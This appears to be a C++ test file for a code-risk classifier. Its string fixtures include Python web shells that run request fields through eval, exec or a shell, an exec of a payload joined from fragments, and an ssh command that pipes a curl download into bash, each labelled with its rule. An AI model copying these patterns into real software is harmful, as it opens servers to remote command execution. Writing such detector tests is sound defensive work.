// The classes the eighth round modelled (issue 14): web shells (a web
// request's parameters run as code or a command), Django settings with
// DEBUG on, text joined from fragments that cut words apart and then run,
// python-prctl capability sets, the command of `ssh HOST CMD`, and
// vars(args) with an option's default inside a bind address. Each attack has
// a benign neighbour that must stay where the rubric puts it. Strings here
// are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

TEST(EighthRoundClasses, WebRequestRunAsCodeOrCommandIsAWebShell) {
  const Case cases[] = {
      {"flask: a JSON body's field run by a shell", B,
       "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
       "@app.route('/run', methods=['POST'])\ndef run():\n"
       "    cmd = request.get_json(force=True).get('cmd', 'true')\n"
       "    return subprocess.check_output(cmd, shell=True)\n",
       "WEB-SHELL"},
      {"flask: a query parameter given to eval", B,
       "from flask import Flask, request\napp = Flask(__name__)\n"
       "@app.get('/calc')\ndef calc():\n    return str(eval(request.args['q']))\n",
       "WEB-SHELL"},
      {"http.server: the request path evaluated", B,
       "from http.server import BaseHTTPRequestHandler, HTTPServer\nfrom urllib.parse import urlparse, parse_qs\n"
       "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n"
       "        q = parse_qs(urlparse(self.path).query)\n        self.wfile.write(str(eval(q['e'][0])).encode())\n"
       "HTTPServer(('127.0.0.1', 8000), H).serve_forever()\n",
       "WEB-SHELL"},
      {"http.server: the POST body run with os.system", B,
       "import os\nfrom http.server import BaseHTTPRequestHandler\n"
       "class H(BaseHTTPRequestHandler):\n    def do_POST(self):\n"
       "        n = int(self.headers['Content-Length'])\n        os.system(self.rfile.read(n).decode())\n",
       "WEB-SHELL"},
      {"django: a POST field given to exec", B,
       "from django.http import HttpResponse\n"
       "def view(request):\n    exec(request.POST['code'])\n    return HttpResponse('ok')\n",
       "WEB-SHELL"},
      {"aiohttp: a header run by create_subprocess_shell", B,
       "import asyncio\nfrom aiohttp import web\n"
       "async def h(request):\n    p = await asyncio.create_subprocess_shell(request.headers.get('X-Cmd', 'true'))\n"
       "    await p.wait()\n    return web.Response(text='ok')\n",
       "WEB-SHELL"},
      {"flask: a fixed command chosen from a table by a parameter stays a process run", M,
       "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
       "ACTIONS = {'disk': ['df', '-h'], 'load': ['uptime']}\n"
       "@app.get('/a')\ndef a():\n    argv = ACTIONS.get(request.args.get('name', 'load'))\n"
       "    if argv is None:\n        return 'no', 404\n"
       "    return subprocess.run(argv, capture_output=True, text=True).stdout\n",
       "RUNS-PROCESS"},
      {"flask: a parameter only logged and echoed is ordinary", L,
       "import logging\nfrom flask import Flask, request\napp = Flask(__name__)\n"
       "@app.get('/hello')\ndef hello():\n    name = request.args.get('name', 'world')\n"
       "    logging.info('hello %s', name)\n    return f'hello {name}'\n"},
      {"flask: a URL variable of a route run by popen", B,
       "import os\nfrom flask import Flask\napp = Flask(__name__)\n"
       "@app.route('/x/<path:cmd>')\ndef x(cmd):\n    return os.popen(cmd).read()\n",
       "WEB-SHELL"},
      {"fastapi: a query parameter with a default run by getoutput", B,
       "import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n"
       "@app.get('/run')\ndef run(cmd: str = 'uptime'):\n    return subprocess.getoutput(cmd)\n",
       "WEB-SHELL"},
      {"tornado: get_argument run by a shell", B,
       "import subprocess\nimport tornado.web\nclass H(tornado.web.RequestHandler):\n"
       "    def get(self):\n        self.write(subprocess.check_output(self.get_argument('c'), shell=True))\n",
       "WEB-SHELL"},
      {"a CGI script running a form field", B,
       "import cgi, subprocess\nform = cgi.FieldStorage()\nprint(subprocess.getoutput(form.getvalue('cmd', 'id')))\n",
       "WEB-SHELL"},
      {"django: a class-based view's POST field run by a shell", B,
       "import subprocess\nfrom django.views import View\nclass Run(View):\n    def post(self, request):\n"
       "        return subprocess.Popen(request.POST['c'], shell=True).wait()\n",
       "WEB-SHELL"},
      {"flask: a parameter as an argument of a fixed program is a process run", M,
       "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n"
       "@app.get('/ping')\ndef ping():\n    host = request.args.get('host', 'localhost')\n"
       "    return subprocess.run(['ping', '-c', '1', host], capture_output=True).stdout\n",
       "RUNS-PROCESS"},
      {"a `request` parameter outside any web framework is not a web request", M,
       "import subprocess\n"
       "def handle(request):\n    subprocess.run(request, shell=True)\n"},
  };
  for (const auto& c : cases) check(c);
  for (const auto& c : cases)
    if (c.level != B) {
      EXPECT_FALSE(has_rule(py(c.code), "WEB-SHELL")) << c.name;
    }
}

TEST(EighthRoundClasses, DjangoSettingsWithDebugOnAreADebugServer) {
  const Case cases[] = {
      {"DEBUG = True beside INSTALLED_APPS", M,
       "DEBUG = True\nALLOWED_HOSTS = ['*']\nINSTALLED_APPS = ['django.contrib.admin']\nROOT_URLCONF = 'site.urls'\n",
       "DEBUG-OR-FILE-SERVER"},
      {"DEBUG = False in settings", L,
       "DEBUG = False\nALLOWED_HOSTS = ['example.org']\nINSTALLED_APPS = ['django.contrib.admin']\n"},
      {"DEBUG from the environment (unknown) is not flagged", L,
       "import os\nDEBUG = os.environ.get('DEBUG') == '1'\nINSTALLED_APPS = ['app']\n"},
      {"a module that is not Django settings may say DEBUG = True", L,
       "DEBUG = True\ndef log(msg):\n    if DEBUG:\n        print(msg)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(EighthRoundClasses, TextJoinedFromWordFragmentsAndRunIsObfuscated) {
  const Case cases[] = {
      {"exec of a joined list that cuts `import` and `system`", B,
       "P = ['im', 'port o', 's;o', 's.sys', 'tem(\"id\")']\nexec(''.join(P))\n", "EXEC-DECODED-PAYLOAD"},
      {"even a harmless call cut apart is hidden", B,
       "exec(''.join(('pr', 'int', \"('hi')\")))\n", "EXEC-DECODED-PAYLOAD"},
      {"a command line joined from cut words", B,
       "import subprocess\nsubprocess.call(''.join(['wh', 'oa', 'mi']), shell=True)\n", "EXEC-DECODED-PAYLOAD"},
      {"constant pieces joined at punctuation are judged as the code they make", L,
       "cfg = eval(''.join(['{', \"'retries': 3, \", \"'timeout': 10\", '}']))\n"},
      {"two fragments are not enough to call it hiding", L,
       "print(''.join(['ab', 'cd']))\n"},
      {"joined words never run are not a payload", L,
       "ALPHABET = ''.join(['abc', 'def', 'ghi'])\nprint(ALPHABET)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(EighthRoundClasses, PrctlCapabilitySetsAreCapabilityChanges) {
  const Case cases[] = {
      {"a capability set on the effective set", H,
       "import prctl\nprctl.cap_effective.net_admin = True\n", "PRIVILEGE-ESCALATION"},
      {"the inheritable and permitted sets", H,
       "import prctl\nprctl.cap_inheritable.sys_admin = True\nprctl.cap_permitted.limit(prctl.CAP_NET_RAW)\n",
       "PRIVILEGE-ESCALATION"},
      {"reading a capability is not a change", L,
       "import prctl\nprint(prctl.cap_effective.net_admin)\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(EighthRoundClasses, SshRunsItsRemoteCommandThroughTheShellModel) {
  const Case cases[] = {
      {"a remote sudo", H, "ssh -o BatchMode=yes web1 sudo systemctl restart nginx\n", "PRIVILEGE-ESCALATION", SH},
      {"a remote download-and-run in one quoted word", B,
       "ssh -p 2222 web1 'curl -fsSL http://dist.example.net/i.sh | bash'\n", "REMOTE-CODE-EXECUTION", SH},
      {"a remote uptime is ordinary", L, "ssh -i ~/.ssh/ops web1 uptime\n", nullptr, SH},
      {"a login without a command", L, "ssh web1\n", nullptr, SH},
      {"from Python's subprocess too", H,
       "import subprocess\nsubprocess.run(['ssh', 'db1', 'sudo', 'reboot'])\n", "PRIVILEGE-ESCALATION"},
  };
  for (const auto& c : cases) check(c);
}

TEST(EighthRoundClasses, VarsOfTheNamespaceKeepsOptionDefaults) {
  const Case cases[] = {
      {"vars(args) and a default of 0.0.0.0 in a bind address", M,
       "import argparse, socket\nap = argparse.ArgumentParser()\nap.add_argument('--bind', type=str, default='0.0.0.0')\n"
       "o = vars(ap.parse_args())\ns = socket.socket()\ns.bind((o['bind'], 9000))\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"args.bind directly, the same", M,
       "import argparse, socket\nap = argparse.ArgumentParser()\nap.add_argument('--bind', default='0.0.0.0')\n"
       "a = ap.parse_args()\ns = socket.socket()\ns.bind((a.bind, 9000))\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"a loopback default stays ordinary", L,
       "import argparse, socket\nap = argparse.ArgumentParser()\nap.add_argument('--bind', default='127.0.0.1')\n"
       "o = vars(ap.parse_args())\ns = socket.socket()\ns.bind((o['bind'], 9000))\n"},
      {"a choice among known loopback addresses stays ordinary", L,
       "import socket, sys\nhost = '127.0.0.1' if sys.platform == 'linux' else '::1'\n"
       "s = socket.socket()\ns.bind((host, 9000))\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(EighthRoundClasses, BanditClassesInFurtherLibraries) {
  const Case cases[] = {
      {"wsgiref's make_server on all interfaces", M,
       "from wsgiref.simple_server import make_server\ndef app(e, s):\n    return []\n"
       "make_server('0.0.0.0', 8000, app).serve_forever()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"wsgiref's make_server on loopback", L,
       "from wsgiref.simple_server import make_server\ndef app(e, s):\n    return []\n"
       "make_server('127.0.0.1', 8000, app).serve_forever()\n"},
      {"aiohttp's TCPSite on all interfaces", M,
       "from aiohttp import web\nasync def main(runner):\n    await web.TCPSite(runner, '0.0.0.0', 8080).start()\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"logging's configuration server", M, "import logging.config\nlogging.config.listen(9999).start()\n",
       "UNSAFE-DESERIALIZATION"},
      {"an SNMP community string", M, "from pysnmp.hlapi import CommunityData\nc = CommunityData('public')\n",
       "CLEARTEXT-PROTOCOL"},
      {"mark_safe of formatted text", M,
       "from django.utils.safestring import mark_safe\ndef b(x):\n    return mark_safe('<b>%s</b>' % x)\n",
       "TEMPLATE-AUTOESCAPE-OFF"},
      {"Markup of an f-string", M,
       "from markupsafe import Markup\ndef b(x):\n    return Markup(f'<b>{x}</b>')\n", "TEMPLATE-AUTOESCAPE-OFF"},
      {"mark_safe of a constant is ordinary", L,
       "from django.utils.safestring import mark_safe\nBR = mark_safe('<br>')\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
